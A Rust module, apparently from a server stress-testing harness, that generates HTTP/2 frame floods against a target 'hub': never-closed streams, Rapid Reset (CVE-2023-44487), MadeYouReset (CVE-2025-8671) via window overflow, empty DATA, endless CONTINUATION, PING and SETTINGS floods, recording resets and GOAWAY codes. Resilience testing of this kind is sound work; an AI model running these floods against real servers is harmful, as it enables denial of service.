//! Floods of HTTP/2 frames: one round each, on a connection of its own.

use std::{io, time::Duration};

use super::{
    assault::{Aim, Tally},
    raw::{END_HEADERS, Over, Raw, call_headers, frame, kind, literal},
};

/// Streams that are opened and never ended.
const STREAMS: u32 = 20_000;
/// Streams that are opened and reset at once (CVE-2023-44487).
const RESETS: u32 = 20_000;
/// Streams that the hub is made to reset (CVE-2025-8671).
const MADE_RESETS: u32 = 6_000;
/// Frames of the other floods.
const FRAMES: u32 = 100_000;
/// Frames that are written together.
const BURST: u32 = 100;
/// How long the hub may take to say what it thinks of a flood.
const SETTLE: Duration = Duration::from_secs(2);
/// The largest window, less than what it is added to makes an overflow.
const WHOLE_WINDOW: [u8; 4] = [0x7f, 0xff, 0xff, 0xff];
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Bytes of one header in a flood of CONTINUATION frames.
const HEADER: usize = 100;

/// A flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Streams that stay open.
    Streams,
    /// Streams that the client resets.
    RapidReset,
    /// Streams that the hub is made to reset.
    MadeYouReset,
    /// DATA frames without data.
    EmptyData,
    /// Headers that never end.
    Continuation,
    /// PING frames.
    Ping,
    /// SETTINGS frames.
    Settings,
}

impl Flood {
    fn frames(self) -> u32 {
        match self {
            Self::Streams => STREAMS,
            Self::RapidReset => RESETS,
            Self::MadeYouReset => MADE_RESETS,
            Self::EmptyData | Self::Continuation | Self::Ping | Self::Settings => FRAMES,
        }
    }

    /// The frames of one step.
    fn step(self, nth: u32, headers: &[u8]) -> Vec<u8> {
        let stream = 1 + 2 * nth;
        let open = || frame(kind::HEADERS, END_HEADERS, stream, headers);
        match self {
            Self::Streams => open(),
            Self::RapidReset => [open(), frame(kind::RST_STREAM, 0, stream, &CANCEL)].concat(),
            Self::MadeYouReset => [open(), frame(kind::WINDOW_UPDATE, 0, stream, &WHOLE_WINDOW)].concat(),
            Self::EmptyData if nth == 0 => open(),
            Self::EmptyData => frame(kind::DATA, 0, 1, &[]),
            Self::Continuation if nth == 0 => frame(kind::HEADERS, 0, 1, headers),
            Self::Continuation => {
                frame(kind::CONTINUATION, 0, 1, &literal(&format!("x-{nth}"), &"y".repeat(HEADER)))
            }
            Self::Ping => frame(kind::PING, 0, 0, &u64::from(nth).to_be_bytes()),
            // The initial window, one byte more or less every time: every open stream has to be looked at.
            Self::Settings => {
                let window = (65_535 + nth % 2).to_be_bytes();
                frame(kind::SETTINGS, 0, 0, &[&[0, 4], &window[..]].concat())
            }
        }
    }

    /// One round: as many frames as the hub takes.
    pub(super) async fn round(self, aim: &Aim, tally: &Tally) -> io::Result<()> {
        let mut raw = Raw::connect(aim.port, &aim.tls).await?;
        let headers = call_headers("Submit");
        let mut ended = Ok(());
        for begin in (0..self.frames()).step_by(BURST as usize) {
            let bytes: Vec<u8> = (begin..begin + BURST).flat_map(|nth| self.step(nth, &headers)).collect();
            ended = raw.send(&bytes).await;
            if ended.is_err() {
                break;
            }
            tally.add(|t| t.sent += u64::from(BURST));
        }
        raw.settle(SETTLE).await;
        let heard = raw.heard();
        tally.add(|t| {
            t.rounds += 1;
            t.resets += heard.resets;
            t.answers += heard.answers;
            t.full += u64::from(ended == Err(Over::Full));
            t.closed += u64::from(heard.closed);
            if let Some(code) = heard.goaway {
                *t.goaways.entry(code).or_default() += 1;
            }
        });
        Ok(())
    }
}
